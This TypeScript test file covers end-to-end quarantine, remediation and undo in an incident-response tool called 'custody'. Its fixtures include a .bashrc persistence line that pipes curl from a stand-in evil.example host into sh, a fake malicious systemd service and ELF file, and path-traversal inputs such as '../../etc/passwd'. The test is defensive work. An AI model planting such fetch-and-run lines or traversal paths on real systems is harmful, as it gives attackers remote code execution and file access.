import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { request } from "node:https";
import { join } from "node:path";
import { type SignedCustodyReport, verifyCustodyReport } from "@custody/audit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LiveBench, type LiveConsole } from "./support/live-e2e.ts";

// putfile, remediate and undo end to end, every part a real process: `custody serve`, an agent enrolled
// with `custody agent enroll` running as `custody agent run`, and an analyst's `custody live connect`
// console. The quarantined bytes are an item of the case, the file comes back byte-identical, and both
// steps are in the item's custody report. The attacks: a path trick, putfile over an existing file, an
// undo from another case, a second undo.
const bench = new LiveBench();
const { work, vault } = bench;
const CASE = "IR-2026-14";
const OTHER = "IR-2026-99";
let url = "";
let deviceId = "";

const custody = (args: string[]) => bench.custody(args);
const alice = () => bench.custodian();
const remote = () => bench.as("alice");

const sysroot = join(work, "sysroot");
const BASHRC = "alias ll='ls -l'\n(curl -s http://evil.example/x | sh) &\n";
const UNIT = "[Service]\nExecStart=/opt/evil/svc\n";
const TOOL = "#!/bin/sh\necho a responder's tool\n";
const EVIL = Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(200_000, 0x41), Buffer.from("payload\n")]);

beforeAll(async () => {
  await bench.serve(["rita"], CASE);
  url = bench.url;
  deviceId = bench.deviceId;
  // a file left in the working folder by an earlier run is gone once the agent starts
  mkdirSync(join(work, "agent", "work"), { recursive: true });
  writeFileSync(join(work, "agent", "work", "stale.txt"), "from an earlier run");
  // unit files, cron and autostart entries are looked up under a test root (systemctl is then not called)
  bench.amendPolicy({ remediation: { systemRoot: sysroot } });
  mkdirSync(join(sysroot, "home", "eve"), { recursive: true });
  mkdirSync(join(sysroot, "etc", "systemd", "system"), { recursive: true });
  mkdirSync(join(sysroot, "opt", "evil"), { recursive: true });
  writeFileSync(join(sysroot, "home", "eve", ".bashrc"), BASHRC);
  writeFileSync(join(sysroot, "etc", "systemd", "system", "evil.service"), UNIT);
  writeFileSync(join(sysroot, "opt", "evil", "svc"), "#!/bin/sh\nsleep 600\n", { mode: 0o755 });
  await bench.startAgent();
  for (const scope of [`device:${deviceId}`, `case:${CASE}`, `case:${OTHER}`])
    await alice().grant({ name: "rita", role: "responder", scope });
  writeFileSync(join(work, "tool.sh"), TOOL);
  expect(custody(["library", "upload", "tool.sh", ...remote()]).code).toBe(0);
  mkdirSync(join(work, "suspect", "sub"), { recursive: true });
  writeFileSync(join(work, "suspect", "evil.bin"), EVIL, { mode: 0o750 });
}, 180_000);

afterAll(async () => {
  await bench.close();
});

const connect = (caseId: string): Promise<LiveConsole> => bench.connect("rita", caseId);

async function close(con: LiveConsole): Promise<void> {
  con.child.stdin?.end();
  expect(await con.exited).toBe(0);
}

/** One HTTPS request to the server with the given client certificate (the device's, or a person's). */
function call(method: string, path: string, cert: { cert: string; key: string }, body?: string) {
  return new Promise<{ status: number; text: string }>((resolve, reject) => {
    const req = request(new URL(path, url), {
      method,
      ...cert,
      ca: readFileSync(join(work, "ca.pem")),
      headers: body === undefined ? {} : { "content-type": "application/json" },
    });
    req.on("error", reject);
    req.on("response", (res) => {
      let text = "";
      res.on("data", (c: Buffer) => (text += c.toString()));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.end(body);
  });
}

async function itemBytes(id: string, caseId: string): Promise<Buffer> {
  const read = await alice().read({ id, caseId });
  const chunks: Buffer[] = [];
  for await (const chunk of read.stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

describe("putfile, remediate and undo, end to end", () => {
  it("the device routes answer only the device a slot or download was made for, and only while its command runs", async () => {
    const device = {
      cert: readFileSync(join(work, "agent", "device-certificate.pem"), "utf8"),
      key: readFileSync(join(work, "agent", "device-key.pem"), "utf8"),
    };
    const pem = readFileSync(join(work, "rita.pem"), "utf8");
    const person = { cert: pem, key: pem };
    const file = JSON.stringify({ path: "/x", sha256: "0".repeat(64), size: 1, mode: 420 });
    const unknown = await call("POST", "/v1/agent/quarantine/Q-unknown", device, file);
    expect(unknown.status).toBe(404);
    expect(unknown.text).toContain("ERR_NOT_FOUND");
    expect((await call("GET", "/v1/agent/downloads/D-unknown", device)).status).toBe(404);
    expect((await call("POST", "/v1/agent/quarantine/Q-unknown", person, file)).status).toBe(403);
    expect((await call("GET", "/v1/agent/downloads/D-unknown", person)).status).toBe(403);
  }, 60_000);

  it("putfile writes the library file 0600 in the working folder (emptied at start) and refuses to write over it", async () => {
    expect(existsSync(join(work, "agent", "work", "stale.txt"))).toBe(false);
    const con = await connect(CASE);
    const put = await con.run("putfile tool.sh");
    expect(put.err).toMatch(/\] completed/);
    const path = join(work, "agent", "work", "tool.sh");
    expect(readFileSync(path, "utf8")).toBe(TOOL);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    writeFileSync(path, "changed on the device");
    expect((await con.run("putfile tool.sh")).err).toMatch(/\] failed.*ERR_FILE_EXISTS/);
    expect(readFileSync(path, "utf8")).toBe("changed on the device");
    expect((await con.run("putfile ../../etc/passwd")).err).toMatch(/ERR_/);
    expect((await con.run("putfile missing.sh")).err).toMatch(/\] failed.*ERR_NOT_FOUND/);
    await close(con);
  }, 120_000);

  it("remediate file quarantines into the vault before deleting; undo from another case is not found; undo restores byte-identical once", async () => {
    const target = join(work, "suspect", "evil.bin");
    const con = await connect(CASE);
    // without its prerequisite (and without -auto) nothing is sent
    expect((await con.run(`remediate file ${target}`)).err).toMatch(/\] failed.*ERR_PREREQUISITE/);
    // a path trick: the command names one file, the path leads elsewhere
    const trick = await con.run(`remediate file ${join(work, "suspect", "sub")}/../evil.bin -auto`);
    expect(trick.err).toMatch(/\] failed.*ERR_REMEDIATION_REFUSED/);
    expect(readFileSync(target).equals(EVIL)).toBe(true);

    const done = await con.run(`remediate file ${target} -auto`);
    expect(done.err).toMatch(/\] completed/);
    const remediationId = /\[(C-[0-9a-f-]+)\] completed/.exec(done.err)?.[1] as string;
    const itemId = /item ([0-9a-f]{64})/.exec(done.err)?.[1] as string;
    expect(itemId).toBe(createHash("sha256").update(EVIL).digest("hex"));
    expect(existsSync(target)).toBe(false);
    expect((await itemBytes(itemId, CASE)).equals(EVIL)).toBe(true);
    const recorded = (await alice().showAudit()).find((r) => r.action === "remediation.recorded");
    expect(recorded?.details).toMatchObject({ remediationId, caseId: CASE, type: "file", itemIds: [itemId] });
    await close(con);

    // the same analyst, the same device, another case: that remediation does not exist there
    const other = await connect(OTHER);
    expect((await other.run(`undo ${remediationId}`)).err).toMatch(/\] failed.*ERR_NOT_FOUND/);
    expect(existsSync(target)).toBe(false);
    await close(other);

    const again = await connect(CASE);
    expect((await again.run(`undo ${remediationId}`)).err).toMatch(/\] completed/);
    expect(readFileSync(target).equals(EVIL)).toBe(true);
    expect(statSync(target).mode & 0o777).toBe(0o750);
    expect((await again.run(`undo ${remediationId}`)).err).toMatch(/\] failed.*ERR_REMEDIATION_REFUSED/);
    await close(again);

    const report = (await alice().report({ id: itemId, caseId: CASE })) as SignedCustodyReport;
    const actions = report.report.events.map((e) => e.action);
    expect(actions).toContain("remediation.recorded");
    expect(actions).toContain("remediation.undone");
    const ca = readFileSync(join(vault, "pki", "ca.pem"), "utf8");
    expect(verifyCustodyReport(report, { trustAnchors: [ca] }).events).toBe(report.report.events.length);
  }, 180_000);

  it("remediates a shell init line and a service under the device's system root, with -auto, and undoes both", async () => {
    const bashrc = join(sysroot, "home", "eve", ".bashrc");
    const unit = join(sysroot, "etc", "systemd", "system", "evil.service");
    const con = await connect(CASE);
    expect((await con.run("remediate startupitem /home/eve/.bashrc:2")).err).toMatch(/ERR_PREREQUISITE/);
    const line = await con.run("remediate startupitem /home/eve/.bashrc:2 -auto");
    expect(line.err).toMatch(/\] completed/);
    expect(line.out).toContain("rewrite");
    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
    const lineId = /\[(C-[0-9a-f-]+)\] completed/.exec(line.err)?.[1] as string;
    expect(/item ([0-9a-f]{64})/.exec(line.err)?.[1]).toBe(createHash("sha256").update(BASHRC).digest("hex"));

    const service = await con.run("remediate service evil -auto");
    expect(service.err).toMatch(/\] completed/);
    const serviceId = /\[(C-[0-9a-f-]+)\] completed/.exec(service.err)?.[1] as string;
    expect(existsSync(unit)).toBe(false);
    expect(existsSync(join(sysroot, "opt", "evil", "svc"))).toBe(false);

    expect((await con.run(`undo ${lineId}`)).err).toMatch(/\] completed/);
    expect(readFileSync(bashrc, "utf8")).toBe(BASHRC);
    expect((await con.run(`undo ${serviceId}`)).err).toMatch(/\] completed/);
    expect(readFileSync(unit, "utf8")).toBe(UNIT);
    expect(statSync(join(sysroot, "opt", "evil", "svc")).mode & 0o777).toBe(0o755);
    await close(con);
  }, 180_000);
});
